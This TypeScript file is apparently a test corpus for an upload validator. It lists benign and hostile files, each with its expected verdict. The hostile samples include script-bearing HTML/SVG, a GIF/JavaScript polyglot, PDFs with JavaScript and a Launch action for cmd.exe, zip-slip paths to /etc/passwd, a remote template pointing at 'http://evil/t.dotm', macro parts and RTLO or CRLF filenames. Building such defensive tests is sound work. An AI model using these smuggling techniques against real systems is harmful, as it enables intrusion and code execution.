/** Files as people and attackers send them, each with what must become of it, written down by hand. */
import { deflateSync } from 'node:zlib';
import { attachmentTypes as types } from '#api/attachments/contract.ts';
import { zipOf } from './zip.ts';

export interface CorpusFile {
  readonly what: string;
  readonly name: string;
  readonly type: string;
  readonly content: Buffer;
  /** `kept`, or the code of the problem. */
  readonly becomes: string;
}

const pdfOf = (...objects: readonly string[]): Buffer =>
  Buffer.from(`%PDF-1.7\n${objects.join('\n')}\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`, 'latin1');
const catalog = '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj';
export const plainPdf = pdfOf(catalog);
const packedList = (text: string): string => {
  const packed = deflateSync(Buffer.from(text)).toString('latin1');
  return `7 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream\nendobj`;
};

export const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);
const jpg = Buffer.concat([
  Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'),
  Buffer.alloc(64, 0x11),
  Buffer.from('ffd9', 'hex'),
]);

const wordMain = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const sheetMain = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';
const list = (part: string, type: string): string =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/${part}" ContentType="${type}"/></Types>`;
const docxParts = { '[Content_Types].xml': list('word/document.xml', wordMain), 'word/document.xml': '<w:document/>' };
const xlsxParts = { '[Content_Types].xml': list('xl/workbook.xml', sheetMain), 'xl/workbook.xml': '<workbook/>' };
export const docx = zipOf(docxParts);
const xlsx = zipOf(xlsxParts);

const script = '<script>document.title = "ran"; fetch("/api/session")</script>';
const html = Buffer.from(`<!doctype html><html><body>${script}</body></html>`);
const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`);
const template =
  '<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/></Relationships>';

type Line = readonly [what: string, name: string, type: string, content: Buffer, becomes: string];

const lines: readonly Line[] = [
  ['a plain PDF', '会议纪要.pdf', types.pdf, plainPdf, 'kept'],
  ['a picture', 'site.PNG', types.png, png, 'kept'],
  ['a photograph', 'site.jpeg', types.jpeg, jpg, 'kept'],
  ['a document', '工作方案.docx', types.docx, docx, 'kept'],
  ['a workbook', '项目清单.xlsx', types.xlsx, xlsx, 'kept'],
  [
    'a PDF with HTML behind its end, which is a PDF to everybody',
    'both.pdf',
    types.pdf,
    Buffer.concat([plainPdf, html, Buffer.from('%%EOF')]),
    'kept',
  ],
  ['a picture with HTML behind its end', 'both.png', types.png, Buffer.concat([png, html]), 'kept'],
  [
    'chance letters of a script inside of a packed picture',
    'scan.pdf',
    types.pdf,
    pdfOf(catalog, '3 0 obj\n<< /Length 9 >>\nstream\nxx/JS xx\nendstream\nendobj'),
    'kept',
  ],
  ['a name of 200 characters', `${'长'.repeat(196)}.pdf`, types.pdf, plainPdf, 'kept'],
  ['a name in decomposed Unicode, kept composed', 'Cafe\u0301.pdf', types.pdf, plainPdf, 'kept'],
  ['nothing', 'empty.pdf', types.pdf, Buffer.alloc(0), 'file-empty'],
  ['a web page by the name of a PDF', 'page.pdf', types.pdf, html, 'file-kind'],
  ['a drawing with a script by the name of a picture', 'drawing.png', types.png, svg, 'file-kind'],
  ['a web page by its own name', 'page.html', types.pdf, html, 'file-kind'],
  ['a drawing by its own name', 'drawing.svg', types.png, svg, 'file-kind'],
  ['a program by the name of a document', 'setup.docx', types.docx, Buffer.from('MZ\x90\0'), 'file-kind'],
  ['a picture by the name of a PDF', 'picture.pdf', types.pdf, png, 'file-kind'],
  ['a PDF declared as a picture', 'minutes.pdf', types.png, plainPdf, 'file-kind'],
  ['a GIF that is a script too', 'gif.jpg', types.jpg, Buffer.from('GIF89a/*....*/=1;alert(1)'), 'file-kind'],
  ['a workbook by the name of a document', 'list.docx', types.docx, xlsx, 'file-kind'],
  ['a zip with other things by the name of a document', 'other.docx', types.docx, zipOf({ 'a.txt': 'a' }), 'file-kind'],
  ['half a document', 'half.docx', types.docx, docx.subarray(0, docx.length - 30), 'file-kind'],
  ['a document that is encrypted', 'locked.docx', types.docx, zipOf(docxParts, { encrypted: true }), 'file-kind'],
  [
    'a document with a path that leads out',
    'slip.docx',
    types.docx,
    zipOf({ ...docxParts, '../../etc/passwd': 'x' }),
    'file-kind',
  ],
  ['half a PDF', 'half.pdf', types.pdf, plainPdf.subarray(0, 40), 'file-kind'],
  ['a name without an extension', 'minutes', types.pdf, plainPdf, 'file-kind'],
  ['two extensions, the last of them a program', 'minutes.pdf.exe', types.pdf, plainPdf, 'file-kind'],
  [
    'a document with macros',
    'macro.docx',
    types.docx,
    zipOf({ ...docxParts, 'word/vbaProject.bin': 'x' }),
    'file-active',
  ],
  [
    'a document of the kind with macros by another name',
    'renamed.docx',
    types.docx,
    zipOf({
      ...docxParts,
      '[Content_Types].xml': list('word/document.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    }),
    'file-active',
  ],
  [
    'the same with its parts in another order',
    'reordered.docx',
    types.docx,
    zipOf({
      'word/document.xml': '<w:document/>',
      '[Content_Types].xml': list('word/document.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    }),
    'file-active',
  ],
  [
    'a workbook with a control',
    'control.xlsx',
    types.xlsx,
    zipOf({ ...xlsxParts, 'xl/activeX/activeX1.bin': 'x' }),
    'file-active',
  ],
  [
    'a document whose template is elsewhere',
    'template.docx',
    types.docx,
    zipOf({ ...docxParts, 'word/_rels/settings.xml.rels': template }),
    'file-active',
  ],
  [
    'a PDF with a script',
    'script.pdf',
    types.pdf,
    pdfOf(catalog, '3 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj'),
    'file-active',
  ],
  [
    'a PDF with a script whose name is written by numbers',
    'hex.pdf',
    types.pdf,
    pdfOf(catalog, '3 0 obj\n<< /S /J#61vaScript >>\nendobj'),
    'file-active',
  ],
  [
    'a PDF that starts a program',
    'launch.pdf',
    types.pdf,
    pdfOf(catalog, '3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj'),
    'file-active',
  ],
  [
    'a PDF with a script in a packed list',
    'packed.pdf',
    types.pdf,
    pdfOf(catalog, packedList('9 0 << /S /JavaScript >>')),
    'file-active',
  ],
  [
    'a PDF that hides a script behind a comment',
    'comment.pdf',
    types.pdf,
    pdfOf(catalog, '% >> stream', '3 0 obj\n<< /S /JavaScript >>\nendobj', 'endstream'),
    'file-active',
  ],
  ['a path', '../../etc/passwd.pdf', types.pdf, plainPdf, 'file-name'],
  ['a path of Windows', 'C:\\temp\\x.pdf', types.pdf, plainPdf, 'file-name'],
  ['a name that shows another end than it has', 'minutes\u202efdp.exe.pdf', types.pdf, plainPdf, 'file-name'],
  ['a name with a line break', 'a\r\nX: y.pdf', types.pdf, plainPdf, 'file-name'],
  ['a name of 201 characters', `${'长'.repeat(197)}.pdf`, types.pdf, plainPdf, 'file-name'],
  ['no name', '', types.pdf, plainPdf, 'file-name'],
];

/** The corpus. */
export const corpus: readonly CorpusFile[] = lines.map(([what, name, type, content, becomes]) => ({
  what,
  name,
  type,
  content,
  becomes,
}));
